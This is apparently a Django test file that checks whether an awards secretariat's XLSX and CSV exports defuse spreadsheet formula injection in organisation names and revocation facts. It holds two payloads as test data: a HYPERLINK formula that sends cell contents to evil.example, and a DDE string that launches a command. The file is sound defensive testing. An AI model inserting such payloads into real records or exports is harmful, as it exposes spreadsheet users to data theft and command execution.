"""Issue #12.7: unit names and facts never become live formulas in the secretariat's exports."""

import csv
import datetime
import io

from django.urls import reverse
from openpyxl import load_workbook

from showcase.awards import domain

ATTACK = '=HYPERLINK("https://evil.example/?x="&B2,"点击查看")'


def _revoked(secretariat, make_organisation, awarded):
    title = awarded(make_organisation(name=ATTACK))
    domain.revoke(application=title.application, user=secretariat, ground="licence", facts="+cmd|' /C calc'!A0",
                  revoked_on=datetime.date(2024, 12, 20))
    return title


def test_summary_xlsx_has_no_formula(client_for, secretariat, make_organisation, awarded):
    _revoked(secretariat, make_organisation, awarded)
    response = client_for(secretariat).get(reverse("awards_admin:summary_xlsx"), {"year": 2024})
    book = load_workbook(io.BytesIO(response.content))
    cells = [c for ws in book for row in ws.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert [c.value for c in cells if c.value == ATTACK] == [ATTACK]


def test_dishonesty_csv_defuses_unit_name_and_facts(client_for, secretariat, make_organisation, awarded):
    _revoked(secretariat, make_organisation, awarded)
    response = client_for(secretariat).get(reverse("awards_admin:dishonesty_csv"))
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[1][0] == "'" + ATTACK
    assert rows[1][6] == "'+cmd|' /C calc'!A0"
